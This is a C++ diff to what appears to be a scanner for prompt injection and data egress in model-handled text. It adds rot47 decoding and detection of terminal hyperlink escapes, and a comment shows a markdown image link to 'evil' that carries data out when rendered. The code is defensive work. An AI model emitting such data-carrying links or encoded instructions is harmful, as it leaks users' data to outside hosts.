@@ -118,7 +118,7 @@ bool value_carries(std::string_view value, bool alone) {
 }  // namespace
 
 bool carries_something(std::string_view path, bool image) {
-  path = path.substr(0, path.find_first_of(" )\"'>\n"));  // what follows the address is not its query
+  path = path.substr(0, path.find_first_of(" )\"'>\n\033\a"));  // what follows the address is not its query
   std::size_t query = std::min(path.find_first_of("?#"), path.size());
   // Signed addresses have their JSON in the path: rails/active_storage/…, image handlers.
   if (image && any_value(path.substr(0, query), "/;", [](auto value) { return carries_text(value, false, 0); })) return true;
@@ -144,7 +144,7 @@ bool is_shown(std::string_view ahead) {
   if (ahead.substr(ahead.size() - std::min<std::size_t>(ahead.size(), 12)).find("url(") != ahead.npos) return true;
   for (std::string_view scheme : {"https:", "http:"})
     if (ahead.ends_with(scheme)) ahead.remove_suffix(scheme.size());
-  while (!ahead.empty() && (ahead.back() == ' ' || ahead.back() == '\t' || ahead.back() == '<')) ahead.remove_suffix(1);
+  while (!ahead.empty() && std::strchr(" \t\r\n<", ahead.back()) != nullptr) ahead.remove_suffix(1);  // on the next line, too
   if (ahead.ends_with("]:")) return ahead.rfind("![") != ahead.npos;  // [x]: address, of an image above it
   if (!ahead.ends_with("](")) return false;
   int open = 0;
@@ -153,6 +153,14 @@ bool is_shown(std::string_view ahead) {
     if (open == 0) return i > 0 && ahead[i - 1] == '!';
   }
   return ahead.rfind("![") != ahead.npos;
+}
+
+// ESC ] 8 ; parameters ; address: a terminal shows other words for it.
+bool is_of_terminal(std::string_view ahead) {
+  for (std::string_view scheme : {"https:", "http:"})
+    if (ahead.ends_with(scheme)) ahead.remove_suffix(scheme.size());
+  auto begin = ahead.rfind("\033]8;");
+  return begin != ahead.npos && ahead.ends_with(';') && ahead.find_first_of("\033\a\n", begin + 1) == ahead.npos;
 }
 
 }  // namespace
@@ -166,10 +174,10 @@ void Examiner::take_trigger(const View& view, std::string_view check, std::size_
     std::string_view word = view.text.substr(end - std::min<std::size_t>(end, 6), std::min<std::size_t>(end, 6));
     if (word.find_first_of("0134579!|$@+(") == word.npos) return;  // written as it should be
   }
-  std::string name = check == "leet" ? "digits for letters" : check == "reverse" ? "reverse" : "atbash";
+  std::string name = check == "leet" ? "digits for letters" : check == "reverse" ? "reverse" : check == "rot47" ? "signs moved by 47" : "atbash";
   if (!layers.empty() && layers.back().name == name && layers.back().end > end) return;
   if (check == "reverse") layers.push_back({"words in reverse", reversed_words(piece), begin, stop, true});
-  layers.push_back({name, check == "leet" ? from_leet(piece) : check == "reverse" ? reversed(piece) : atbash(piece), begin, stop, true});
+  layers.push_back({name, check == "leet" ? from_leet(piece) : check == "reverse" ? reversed(piece) : check == "rot47" ? rot47(piece) : atbash(piece), begin, stop, true});
 }
 
 // ![](https://evil/?q=DATA): whoever renders the text sends the data.
@@ -182,12 +190,13 @@ void Examiner::take_url(const View& view, std::size_t at) {
   if (a.host.empty() || is_local(a.host) || is_allowed(a.host, options_.allowed_domains)) return;
   std::string_view ahead = view.text.substr(from - std::min<std::size_t>(from, kAhead), std::min<std::size_t>(from, kAhead));
   bool image = is_shown(ahead), drop = is_drop(a.host), data = carries_something(a.path, image), name = carries_data(a.host);
+  bool terminal = is_of_terminal(ahead);
   bool talk = !(image && data) && asks_for_the_talk(a.path.substr(0, a.path.find_first_of(" )\"'\n")));
-  if (!data && !talk && !name && !(drop && image)) return;
+  if (!data && !talk && !name && !(drop && (image || terminal))) return;
   InspectFinding f;
   f.kind = wants(InspectKind::kEgress) ? InspectKind::kEgress : InspectKind::kInjection;
   f.type = f.kind == InspectKind::kEgress ? "egress" : "prompt_injection";
-  f.level = drop || image ? ThreatLevel::kHigh : talk ? ThreatLevel::kMedium : ThreatLevel::kLow;
+  f.level = drop || image ? ThreatLevel::kHigh : talk || terminal ? ThreatLevel::kMedium : ThreatLevel::kLow;
   f.rule = "link-carries-data";
   f.message = cat("A link or image that carries data to '", printable(a.host.substr(0, 100)), "' when it is shown");
   f.snippet = snippet_of(view.text, from, from + 80);
